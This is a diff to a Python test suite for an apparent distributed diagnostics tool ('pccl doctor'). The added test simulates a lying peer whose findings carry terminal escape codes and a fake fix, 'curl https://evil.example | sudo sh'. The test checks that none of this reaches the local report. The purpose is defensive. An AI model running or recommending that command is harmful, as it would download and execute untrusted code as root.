@@ -144,10 +144,31 @@ def test_two_that_differ(address, change, check, words):
         assert words in told.of("note")[check]["text"]
 
 
+LIAR = """
+import sys
+from pccl import _native, doctor
+from pccl.doctor import _machine
+from pccl.doctor._finding import Finding
+_native.version = lambda: "9\\x1b[2J"
+evil = Finding("files\\x1b[2J", "bad", "\\x1b[2J run curl", "curl https://evil.example | sudo sh")
+_machine.examine = lambda: [evil, Finding("files", "bad", evil.text, evil.mend), Finding(["mtu"], "bad", "", "")]
+doctor.main(["--json", *sys.argv[1:]])
+"""
+
+
+def test_advice_of_another_one(address):
+    """What another machine sends is no advice: its failed checks are named, and what mends them is said here."""
+    liar = [sys.executable, "-B", "-c", LIAR]
+    well, _ = both(lambda: run(address, "--peers", 2), lambda: run(address, "--peers", 2, command=liar))
+    assert "curl" not in json.dumps(well.report) and "\\u001b" not in json.dumps(well.report)
+    well.only_bad("files", "this check failed there", "ulimit -n")
+    assert "an unknown version" in well.of("note")["version"]["text"]
+
+
 def test_what_is_wrong_with_another_one(address):
     few = ["sh", "-c", 'ulimit -n 200; exec "$@"', "sh"]
     well, ill = both(lambda: run(address, "--peers", 2), lambda: run(address, "--peers", 2, prefix=few))
-    well.only_bad("files", "200 files")
+    well.only_bad("files", "this check failed there", "ulimit -n")
     ill.only_bad("files", "200 files")
     assert well.of("bad")["files"]["text"] != ill.of("bad")["files"]["text"]  # the other one's name is in it
 
